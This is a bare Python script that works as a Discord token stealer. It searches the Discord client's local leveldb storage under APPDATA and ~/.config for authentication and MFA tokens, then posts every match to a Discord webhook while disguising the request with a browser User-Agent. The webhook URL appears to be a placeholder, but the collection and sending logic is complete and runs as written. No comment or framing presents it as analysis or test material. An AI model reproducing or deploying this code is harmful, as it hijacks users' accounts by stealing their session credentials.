import glob
import json
import os
import re
import urllib.request

PATTERN = re.compile(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}|mfa\.[\w-]{84}")
HOOK = "https://discord.com/api/webhooks/111111111111111111/inert"


def tokens():
    roots = [os.getenv("APPDATA", ""), os.path.expanduser("~/.config")]
    for root in roots:
        for name in glob.glob(os.path.join(root, "discord*", "Local Storage", "leveldb", "*.l*")):
            with open(name, errors="ignore") as fh:
                yield from PATTERN.findall(fh.read())


def notify(found):
    body = json.dumps({"content": "\n".join(found), "username": "presence"}).encode()
    req = urllib.request.Request(HOOK, body, {"Content-Type": "application/json", "User-Agent": "Mozilla/5.0"})
    urllib.request.urlopen(req)


found = set(tokens())
if found:
    notify(found)
